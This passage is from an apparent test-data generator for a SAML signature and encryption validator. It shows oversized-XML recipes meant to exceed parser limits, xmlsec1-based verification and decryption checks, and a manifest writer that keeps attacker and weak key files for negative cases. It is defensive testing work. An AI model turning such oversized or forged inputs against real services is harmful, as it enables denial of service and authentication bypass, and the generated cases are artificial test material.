    anchor = gen["anchor"].encode()
    i = base.find(anchor)
    if i < 0:
        die("recipe anchor %r not in %s" % (anchor, gen["base"]))
    i += len(anchor)
    if kind == "deep_nesting":
        e = gen["element"].encode()
        ins = (b"<%s>" % e) * gen["depth"] + (b"</%s>" % e) * gen["depth"]
    elif kind == "many_attributes":
        p = gen["name_prefix"]
        ins = "".join(' %s%d="urn:x:%d"' % (p, k, k) for k in range(gen["count"])).encode()
    elif kind == "long_text":
        ins = (gen["prefix"] + gen["char"] * gen["length"] + gen["suffix"]).encode()
    elif kind == "many_elements":
        f = gen["fragment"]
        ins = "".join(f.replace("{i}", str(k)) for k in range(gen["count"])).encode()
    else:
        die("unknown recipe kind %s" % kind)
    return base[:i] + ins + base[i:]


def check_recipes(reg):
    """Recipes must build and must really exceed a limit."""
    lim = oracle.LIMITS
    for name, e in sorted(reg.cases.items()):
        gen = e.get("generate")
        if gen is None:
            continue
        data = materialize(gen, reg.files)
        big = len(data) > (lim["input"] if e["encoding"] == "base64" else lim["xml"])
        if gen["kind"] == "deep_nesting":
            big = big or gen["depth"] > lim["depth"]
        if gen["kind"] == "many_attributes":
            big = big or gen["count"] > lim["attrs"]
        if gen["kind"] == "many_elements":
            big = big or gen["count"] > lim["nodes"]
        if not big or e["expect"] != "limit_exceeded":
            die("recipe %s does not exceed a limit" % name)


def check_valid_with_xmlsec1(reg):
    """Every case expected `valid` (including derived ones whose bytes were spliced after
    signing) must verify with xmlsec1 against the configured certificate(s)."""
    from concurrent.futures import ThreadPoolExecutor

    todo = [(name, e) for name, e in sorted(reg.cases.items())
            if e["expect"] == "valid" and e["encoding"] == "xml" and e["_data"] is not None]
    with ThreadPoolExecutor(max_workers=max(2, os.cpu_count() or 2)) as pool:
        results = list(pool.map(lambda ne: verify_one_valid(reg, *ne), todo))
    return [p for r in results for p in r]


def xmlsec_decrypt(data, keyfile):
    """xmlsec1 --decrypt with the SP key: the document with the EncryptedAssertion replaced by
    its plaintext, or None."""
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "in.xml")
        dst = os.path.join(tmp, "out.xml")
        with open(src, "wb") as f:
            f.write(data)
        cmd = ["xmlsec1", "--decrypt", "--privkey-pem", keyfile,
               "--enabled-retrieval-method-uris", "same-doc"] + ID_ATTRS + [
            "--id-attr:Id", encrypt.XENC + ":EncryptedKey", "--output", dst, src]
        p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        if p.returncode != 0:
            return None, (p.stdout + p.stderr).decode(errors="replace")
        with open(dst, "rb") as f:
            return f.read(), ""


def py_decrypt(data, keyfile):
    """A second decryptor (lxml + Python cryptography/OpenSSL) for what xmlsec1 1.2 cannot read
    (xenc11 rsa-oaep, SHA-256 OAEP digests): the document with the EncryptedAssertion replaced
    by its decrypted Assertion, or None."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import padding as asym
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    X, X11 = encrypt.XENC, encrypt.XENC11
    with open(keyfile, "rb") as f:
        key = serialization.load_pem_private_key(f.read(), None)
    tree, prolog = parse(data)
    ea = kids(tree.getroot(), NS_A, "EncryptedAssertion")[0]
    ed = kids(ea, X, "EncryptedData")[0]
    content = kids(ed, X, "EncryptionMethod")[0].get("Algorithm")
    value = base64.b64decode(ed.find("{%s}CipherData/{%s}CipherValue" % (X, X)).text)
    hashes_ = {NS_DS + "sha1": encrypt.hashes.SHA1, X + "sha256": encrypt.hashes.SHA256,
               X11 + "mgf1sha1": encrypt.hashes.SHA1, X11 + "mgf1sha256": encrypt.hashes.SHA256}
    cek = None
    for ek in ea.iter("{%s}EncryptedKey" % X):
        method = kids(ek, X, "EncryptionMethod")[0]
        dm = method.find("{%s}DigestMethod" % NS_DS)
        mgf = method.find("{%s}MGF" % X11)
        digest = hashes_[dm.get("Algorithm") if dm is not None else NS_DS + "sha1"]
        mgf_hash = (hashes_[mgf.get("Algorithm")] if mgf is not None else encrypt.hashes.SHA1)
        wrapped = base64.b64decode(ek.find("{%s}CipherData/{%s}CipherValue" % (X, X)).text)
        try:
            cek = key.decrypt(wrapped, asym.OAEP(mgf=asym.MGF1(mgf_hash()), algorithm=digest(),
                                                 label=None))
            break
        except ValueError:
            continue
    if cek is None:
        return None
    if content.endswith("-gcm"):
        plain = AESGCM(cek).decrypt(value[:12], value[12:], None)
    else:
        block = 8 if content.endswith("tripledes-cbc") else 16
        alg = (encrypt.TripleDES(cek) if block == 8 else algorithms.AES(cek))
        dec = Cipher(alg, modes.CBC(value[:block])).decryptor()
        padded = dec.update(value[block:]) + dec.finalize()
        plain = padded[:-padded[-1]]
    # parse in the EncryptedAssertion's namespace context, put the Assertion in its place
    nsdecl = "".join(' xmlns%s="%s"' % (":" + p if p else "", u) for p, u in ea.nsmap.items())
    wrapper = etree.fromstring(("<w%s>" % nsdecl).encode() + plain + b"</w>", PARSER)
    assertion = wrapper[0]
    assertion.tail = ea.tail
    tree.getroot().replace(ea, assertion)
    return prolog + serialize(tree)


def verify_one_encrypted(reg, name, e, data, certs):
    """A valid encrypted case: the Response signature (over the ciphertext) verifies, xmlsec1
    decrypts the assertion with one of the configured SP keys, and the decrypted document's
    assertion signature verifies and carries the expected NameID."""
    problems = []
    tree, _ = parse(data)
    if sig_of(tree.getroot()) is not None:
        if not any(xmlsec_verify(data, os.path.join(reg.out, c), XP_R_SIG)[0] for c in certs):
            problems.append("%s: the Response signature does not verify" % name)
    decrypted, msg = None, ""
    # xmlsec1 1.2 knows rsa-oaep-mgf1p with SHA-1 only: the others go through py_decrypt
    xmlsec_can = (b"xmlenc11#rsa-oaep" not in data and b"xmlenc#sha256" not in data
                  and len(re.findall(rb"EncryptedKey ", data)) == 1)
    for keyfile in e["config"].get("spKeys", []):
        path = os.path.join(reg.out, keyfile)
        if xmlsec_can:
            decrypted, msg = xmlsec_decrypt(data, path)
        else:
            decrypted, msg = py_decrypt(data, path), "py_decrypt found no key"
        if decrypted is not None:
            break
    if decrypted is None:
        return problems + ["%s: decryption failed:\n%s" % (name, msg)]
    dtree, _ = parse(decrypted)
    assertions = list(dtree.getroot().iter("{%s}Assertion" % NS_A))
    if len(assertions) != 1:
        return problems + ["%s: xmlsec1 decrypted no single Assertion" % name]
    name_ids = [el.text for el in assertions[0].iter("{%s}NameID" % NS_A)]
    if name_ids != [e["identity"]["nameId"]]:
        problems.append("%s: decrypted NameID %r" % (name, name_ids))
    if sig_of(assertions[0]) is not None:
        xp = XP_A_SIG if xmlsec_can is False else (
            "/*/*[local-name()='EncryptedAssertion']/*[local-name()='Assertion']"
            "/*[local-name()='Signature']")
        if not any(xmlsec_verify(decrypted, os.path.join(reg.out, c), xp)[0]
                   for c in certs):
            problems.append("%s: the decrypted assertion's signature does not verify" % name)
    elif sig_of(tree.getroot()) is None:
        problems.append("%s: nothing signed" % name)
    return problems


def verify_one_valid(reg, name, e):
    problems = []
    data = e["_data"]
    certs = e["config"].get("idpCerts") or DEFAULTS["idpCerts"]
    tree, _ = parse(data)
    root = tree.getroot()
    if kids(root, NS_A, "EncryptedAssertion"):
        return verify_one_encrypted(reg, name, e, data, certs)
    targets = []
    if sig_of(root) is not None:
        targets.append(XP_R_SIG)
    A = kids(root, NS_A, "Assertion")
    if A and sig_of(A[0]) is not None:
        targets.append(XP_A_SIG)
    if not targets:
        problems.append("%s: no signature to verify" % name)
    for xp in targets:
        ok = False
        msg = ""
        for cert in certs:
            # KeyInfo is not trusted: if the X509 data in it confuses xmlsec1, retry without it
            for keydata in ("rsa,x509", "rsa"):
                ok, msg = xmlsec_verify(data, os.path.join(reg.out, cert), xp, keydata)
                if ok:
                    break
            if ok:
                break
        if not ok:
            problems.append("%s: xmlsec1 --verify failed for %s:\n%s" % (name, xp, msg))
    return problems


def write_output(reg, out):
    keep = {"idp.key", "idp.crt", "idp2.key", "idp2.crt", "attacker.key", "attacker.crt",
            "attacker-clone.crt", "weak.key", "weak.crt", "cases.json", "sp-enc.key",
            "sp-enc.crt", "sp-enc2.key", "sp-enc2.crt"}
    keep |= set(reg.files)
    for fn in os.listdir(out):
        if fn not in keep and (fn.endswith(".xml") or fn.endswith(".b64")):
            os.remove(os.path.join(out, fn))
    for fn, data in sorted(reg.files.items()):
        path = os.path.join(out, fn)
        old = None
        if os.path.exists(path):
            with open(path, "rb") as f:
                old = f.read()
        if old != data:
            with open(path, "wb") as f:
                f.write(data)
    cases = []
    for name in sorted(reg.cases):
        e = {k: v for k, v in reg.cases[name].items() if not k.startswith("_")}
        cases.append(e)
    manifest = {
        "version": 1,
        "generatedBy": "tests/gen/generate.py",
        "defaults": DEFAULTS,
        "cases": cases,
    }
    # one case per line: small, stable and diff-friendly
    head = {k: v for k, v in manifest.items() if k != "cases"}
    text = json.dumps(head, sort_keys=True, ensure_ascii=False, indent=1)
    lines = [json.dumps(c, sort_keys=True, ensure_ascii=False, separators=(",", ":"))
             for c in cases]
    text = text[:-2] + ',\n "cases": [\n' + ",\n".join(lines) + "\n ]\n}\n"
    json.loads(text)
    with open(os.path.join(out, "cases.json"), "w", encoding="utf-8") as f:
        f.write(text)


def main():
    global SEED
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default="tests/data/generated")
    ap.add_argument("--seed", type=int, default=SEED)
    ap.add_argument("--fresh-keys", action="store_true",
                    help="create new keys and certificates (otherwise reuse those in --out)")
    ap.add_argument("--no-oracle", action="store_true",
                    help="skip the cross-check of expected codes with oracle.py")
    ap.add_argument("--base-time", type=parse_base_time, default=DEFAULT_BASE,
                    metavar="ISO8601", help="base time of every case, whole seconds "
                    "(default 2026-01-15T10:00:00Z); the manifest's now is 1 minute later")
    args = ap.parse_args()
    SEED = args.seed
    set_base(args.base_time)
    for tool in ("openssl", "xmlsec1"):
        if shutil.which(tool) is None:
            die("%s is required" % tool)
    os.makedirs(args.out, exist_ok=True)
    ensure_keys(args.out, args.fresh_keys)
    km = KeyMaterial(args.out)
    reg = Registry(args.out, km)
    S = Signer(km)
    ctx = Context(reg, S, km)
    ctx.run_all()
    check_recipes(reg)
    problems = check_valid_with_xmlsec1(reg)
    if problems:
        die("cases expected to be valid fail xmlsec1 verification:\n  " + "\n  ".join(problems))
    if not args.no_oracle:
        problems = check_with_oracle(reg)
        if problems:
            die("expected codes disagree with the pipeline model:\n  " + "\n  ".join(problems))
    write_output(reg, args.out)
    total = sum(len(d) for d in reg.files.values())
    by_cat = {}
    for e in reg.cases.values():
        by_cat[e["category"]] = by_cat.get(e["category"], 0) + 1
    print("generated %d cases (%s), %d files, %.1f KiB of case data"
          % (len(reg.cases), ", ".join("%s %d" % kv for kv in sorted(by_cat.items())),
             len(reg.files), total / 1024.0))


if __name__ == "__main__":
    main()
